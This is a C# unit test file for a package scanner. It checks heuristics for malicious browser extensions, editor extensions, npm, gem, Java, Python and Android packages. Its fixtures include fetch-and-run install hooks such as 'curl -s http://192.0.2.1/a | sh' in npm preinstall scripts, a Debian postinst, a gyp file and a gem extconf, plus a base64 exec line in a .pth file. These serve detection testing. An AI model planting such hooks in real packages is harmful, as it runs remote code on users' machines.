using System.Text;
using ScanHost.Formats.Containers;
using ScanHost.Pipeline.Findings;
using ScanHost.Pipeline.Tests.Doubles;
using ScanHost.TestKit;
using ScanHost.TestKit.HeldOut.Second;
using static ScanHost.Pipeline.Findings.PackageHeuristics;

namespace ScanHost.Pipeline.Tests.Stages.Packages;

public sealed class PackagesStageTests
{
    private static readonly byte[] ClassMark = [0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 52, 0, 20];

    private const string Pages = "\"permissions\":[\"<all_urls>\",";

    private static readonly HeuristicCase[] Extensions =
    [
        Browser(WideReach, Pages + "\"cookies\",\"debugger\",\"management\"]", Pages + "\"cookies\",\"storage\"]", "\"permissions\":[\"https://*.host.invalid/*\",\"cookies\",\"debugger\",\"management\"]", "\"optional_permissions\":[\"<all_urls>\",\"cookies\",\"debugger\",\"management\"]"),
        Browser(RemoteScripts, "\"content_security_policy\":\"script-src 'self' https://cdn.host.invalid; object-src 'self'\"", "\"content_security_policy\":\"script-src 'self' 'unsafe-eval'; connect-src https://cdn.host.invalid\"", "\"content_security_policy\":{\"extension_pages\":\"default-src https://cdn.host.invalid; script-src 'self'\"}", "\"content_security_policy\":\"script-src 'self' http://localhost:8080\""),
        Browser(ForeignUpdate, "\"update_url\":\"https://updates.host.invalid/u.xml\"", "\"update_url\":\"https://clients2.google.com/service/update2/crx\"", "\"update_url\":\"https://edge.microsoft.com/extensionwebstorebase/v1/crx\"", "\"homepage_url\":\"https://updates.host.invalid/\""),
        Browser(OpenUpdate, "\"update_url\":\"http://updates.host.invalid/u.xml\"", "\"update_url\":\"https://updates.host.invalid/u.xml\"", "\"update_url\":\"http://clients2.google.com/service/update2/crx\"", "\"homepage_url\":\"http://updates.host.invalid/\""),
        Browser(ReplacesSettings, Pages + "\"tabs\"],\"chrome_settings_overrides\":{\"search_provider\":{\"name\":\"a\"}}", "\"chrome_settings_overrides\":{\"search_provider\":{\"name\":\"a\"}}", Pages + "\"tabs\"]", Pages + "\"tabs\"],\"chrome_settings_overrides\":{}"),
        Editor(StartsAlways, "\"activationEvents\":[\"*\"]", "\"activationEvents\":[\"onStartupFinished\"]", "\"activationEvents\":[\"onLanguage:*\"]", "\"categories\":[\"*\"]"),
        new(BorrowedName, Extension("\"name\":\"prettier-vscode\",\"publisher\":\"somebody\""), Extension("\"name\":\"prettier-vscode\",\"publisher\":\"esbenp\""), Extension("\"name\":\"my-formatter\",\"publisher\":\"somebody\""), Extension("\"name\":\"prettier-vscode\"")),
        HeuristicCase.Of(StartLine, "a.pth", "import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n", "import sys; exec('try: import coverage; coverage.process_startup()')\n", "./src/base64\n", "import os; enabled = os.environ.get('A', 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();\n"),
        new(NativeUndeclared, Tar("package/package.json", "package/index.js", "package/lib/a.node"), Tar("package/package.json", "package/lib/a.linux-x64-gnu.node"), Tar("package/package.json", "package/binding.gyp", "package/build/a.node"), Tar("data/index.js", "data/lib/a.node"), Wheel("a-1.0-cp312-cp312-linux_x86_64.whl", "a/b.so")),
        new(NoRepositorySignature, Gallery("a.nuspec", "lib/net8.0/a.dll"), Gallery("a.nuspec", ".signature.p7s"), Gallery("lib/a.nuspec.txt"), new("a.docx", OoxmlBuilder.Word().Build())),
    ];

    private static readonly HeuristicCase[] Table =
    [
        .. Extensions,
        Npm(InstallHook, "\"scripts\":{\"postinstall\":\"node collect.js\"}", "\"scripts\":{\"install\":\"node-gyp rebuild\"}", "\"scripts\":{\"test\":\"node collect.js\"}", "\"description\":\"postinstall\""),
        Npm(HookNetwork, "\"scripts\":{\"preinstall\":\"curl -s http://192.0.2.1/a | sh\"}", "\"scripts\":{\"preinstall\":\"node-gyp rebuild\"}", "\"scripts\":{\"test\":\"curl -s http://192.0.2.1/\"}", "\"scripts\":{\"postinstall\":\"echo thank you\"}"),
        Npm(HookActs, "\"scripts\":{\"preinstall\":\"curl -s http://192.0.2.1/a | sh\"}", "\"scripts\":{\"preinstall\":\"curl -sO http://host.invalid/a.zip\"}", "\"scripts\":{\"test\":\"curl -s http://192.0.2.1/a | sh\"}", "\"scripts\":{\"postinstall\":\"node collect.js\"}"),
        new(TypoSquat, Json("\"name\":\"lodahs\""), Json("\"name\":\"lodash\""), Json("\"name\":\"web4\""), Json("\"name\":\"dash\"")),
        Npm(DependencyUrl, "\"dependencies\":{\"a\":\"http://192.0.2.1/a.tgz\"}", "\"dependencies\":{\"a\":\"^1.0.0\"}", "\"homepage\":\"http://host.invalid/\"", "\"dependencies\":{\"a\":\"file:../a\"}"),
        new(HugeVersion, Json("\"name\":\"inner\",\"version\":\"999.0.1\""), Json("\"name\":\"inner\",\"version\":\"98.0.1\""), Json("\"name\":\"inner\",\"version\":\"2026.1.0\""), Json("\"name\":\"inner\",\"version\":\"1.999.0\"")),
        HeuristicCase.Of(JarAgent, "MANIFEST.MF", "Manifest-Version: 1.0\r\nPremain-Class: a.B\r\n", "Manifest-Version: 1.0\r\nMain-Class: a.B\r\n", "Manifest-Version: 1.0\r\nX-Premain-Class-Note: no\r\n", "Manifest-Version: 1.0\r\n"),
        Class(JarExec, "java/lang/Runtime exec java/net/URL", "java/lang/Runtime exec", "java/net/URL", "java/lang/Runtime gc java/net/URL"),
        Class(JarLoader, "defineClass javax/crypto/Cipher", "defineClass", "javax/crypto/Cipher", "loadClass javax/crypto/Cipher"),
        Manifest(ApkPermissions, "SEND_SMS SYSTEM_ALERT_WINDOW BIND_ACCESSIBILITY_SERVICE", "SEND_SMS", "SYSTEM_ALERT_WINDOW BIND_ACCESSIBILITY_SERVICE", "INTERNET"),
        new(ApkDropper, Zip("assets/b.dex"), Zip("classes.dex"), Zip("lib/b.dex"), Zip("docs/b.dex")),
    ];

    public static TheoryData<int> Rows => [.. Enumerable.Range(0, Table.Length)];

    [Theory]
    [MemberData(nameof(Rows))]
    public Task A_package_gives_itself_away_and_three_that_come_close_do_not(int row) => Table[row].CheckAsync();

    [Fact]
    public void Every_heuristic_has_its_row() => Table.Select(row => row.Heuristic).Should().BeEquivalentTo(All);

    [Fact]
    public async Task A_maintainer_script_of_a_package_is_one_of_its_hooks()
    {
        using var scans = new Scans { Readers = ContainerReaders.All };

        var outcome = await scans.ScanAsync(InertFiles.Zip(("postinst", "#!/bin/sh\ncurl -fsSL http://192.0.2.1/x | sh\n"u8.ToArray())), "a.zip");

        outcome.Findings.Should().Contain(finding => finding.Id == HookNetwork.Id);
    }

    [Theory]
    [InlineData("manifest.json", "{\"manifest_version\":3,\"name\":\"MetaMaks\",\"version\":\"1.0\"}")]
    [InlineData("control", "Package: google-chrome-stabel\nVersion: 1.0\nArchitecture: amd64\n")]
    [InlineData("package.json", "{\"name\":\"pretier-vscode\",\"publisher\":\"a\",\"engines\":{\"vscode\":\"^1.80.0\"}}")]
    [InlineData("extension.vsixmanifest", "<PackageManifest><Metadata><Identity Language=\"en-US\" Id=\"gitlense\" Version=\"1.0\" Publisher=\"b\"/></Metadata></PackageManifest>")]
    [InlineData("metadata", "--- !ruby/object:Gem::Specification\nname: nokogirl\nversion: !ruby/object:Gem::Version\n  version: 1.0.0\n")]
    public async Task A_name_one_letter_away_from_a_popular_one_is_noticed_in_every_ecosystem(string name, string manifest)
    {
        using var scans = new Scans { Readers = ContainerReaders.All };

        var outcome = await scans.ScanAsync(InertFiles.Zip((name, Encoding.UTF8.GetBytes(manifest)), ("b.txt", "b"u8.ToArray())), "a.zip");

        outcome.Findings.Should().Contain(finding => finding.Id == TypoSquat.Id);
    }

    [Theory]
    [InlineData("'include_dirs': [\"<!(node -p \\\"require('node-addon-api').include\\\")\"]", false)]
    [InlineData("'sources': [\"<!@(node -e \\\"console.log('a.cc')\\\")\"]", false)]
    [InlineData("'sources': [\"<!(curl -s https://host.invalid/a | sh)\"]", true)]
    public async Task What_gyp_runs_while_it_reads_its_file_is_an_installation_hook(string line, bool isHostile)
    {
        using var scans = new Scans();

        var outcome = await scans.ScanAsync(Encoding.UTF8.GetBytes($"{{'targets': [{{'target_name': 'a', {line}}}]}}"), "binding.gyp");

        outcome.Findings.Any(finding => finding.Id == HookNetwork.Id).Should().Be(isHostile);
    }

    [Fact]
    public async Task A_gem_is_known_by_its_metadata_and_its_extension_is_judged_as_what_runs_at_its_installation()
    {
        using var scans = new Scans { Readers = ContainerReaders.All };
        var metadata = InertFiles.Gzip("--- !ruby/object:Gem::Specification\nname: a-gem\nversion: !ruby/object:Gem::Version\n  version: 999.0.0\nextensions:\n- ext/extconf.rb\n"u8.ToArray());
        var data = InertFiles.Gzip(ImageForms.Tar(("ext/extconf.rb", "require 'mkmf'\n`curl -s http://192.0.2.1/x | sh`\n"u8.ToArray())));

        var outcome = await scans.ScanAsync(ImageForms.Tar(("metadata.gz", metadata), ("data.tar.gz", data)), "a-gem-999.0.0.gem");

        outcome.Findings.Select(finding => finding.Id).Should().Contain([HugeVersion.Id, HookNetwork.Id]).And.NotContain(InstallHook.Id);
    }

    [Fact]
    public async Task The_hooks_of_npm_do_not_count_in_an_extension_of_an_editor_because_the_editor_does_not_run_them()
    {
        using var scans = new Scans();

        var outcome = await scans.ScanAsync("{\"name\":\"a\",\"engines\":{\"vscode\":\"^1.80.0\"},\"scripts\":{\"postinstall\":\"node collect.js\"}}"u8.ToArray(), "package.json");

        outcome.Findings.Should().NotContain(finding => finding.Id == InstallHook.Id);
    }

    private static HeuristicCase Browser(Heuristic heuristic, string positive, params string[] negatives) =>
        new(heuristic, Manifested(positive), [.. negatives.Select(Manifested)]);

    private static SampleFile Manifested(string body) => new("manifest.json", "{\"manifest_version\":2,\"name\":\"An extension\",\"version\":\"1.0\"," + body + "}");

    private static HeuristicCase Editor(Heuristic heuristic, string positive, params string[] negatives) =>
        new(heuristic, Extension("\"name\":\"a-thing\"," + positive), [.. negatives.Select(body => Extension("\"name\":\"a-thing\"," + body))]);

    private static SampleFile Extension(string body) => new("package.json", "{\"version\":\"1.0.0\",\"engines\":{\"vscode\":\"^1.80.0\"}," + body + "}");

    private static SampleFile Tar(params string[] names) => new("a.tar", ImageForms.Tar([.. names.Select(name => (name, Encoding.UTF8.GetBytes($"{{}} {name}")))]));

    private static SampleFile Wheel(string name, string member) => new(name, InertFiles.Zip((member, "a"u8.ToArray()), ("a-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\n"u8.ToArray())));

    private static SampleFile Gallery(params string[] names) => new("a.nupkg", InertFiles.Zip([("[Content_Types].xml", "<Types/>"u8.ToArray()), .. names.Select(name => (name, Encoding.UTF8.GetBytes($"content of {name}")))]));

    private static HeuristicCase Npm(Heuristic heuristic, string positive, params string[] negatives) =>
        new(heuristic, Json("\"name\":\"a-package\",\"version\":\"1.0.0\"," + positive), [.. negatives.Select(body => Json("\"name\":\"a-package\",\"version\":\"1.0.0\"," + body))]);

    private static SampleFile Json(string body) => new("package.json", "{" + body + "}");

    private static HeuristicCase Class(Heuristic heuristic, string positive, params string[] negatives) =>
        new(heuristic, ClassOf(positive), [.. negatives.Select(ClassOf)]);

    private static SampleFile ClassOf(string names) => new("A.class", [.. ClassMark, .. names.Split(' ').SelectMany(name => (byte[])[1, 0, (byte)name.Length, .. Encoding.ASCII.GetBytes(name)])]);

    private static HeuristicCase Manifest(Heuristic heuristic, string positive, params string[] negatives) =>
        new(heuristic, ManifestOf(positive), [.. negatives.Select(ManifestOf)]);

    private static SampleFile ManifestOf(string permissions)
    {
        byte[] body = [.. permissions.Split(' ').SelectMany(name => Encoding.Unicode.GetBytes("android.permission." + name + "\0"))];
        var length = BitConverter.GetBytes(8 + body.Length);
        return new("AndroidManifest.xml", [3, 0, 8, 0, length[0], length[1], length[2], 0, .. body]);
    }

    private static SampleFile Zip(string member) => new("a.zip", InertFiles.Zip((member, [.. "dex\n035\0"u8, .. new byte[104]])));
}
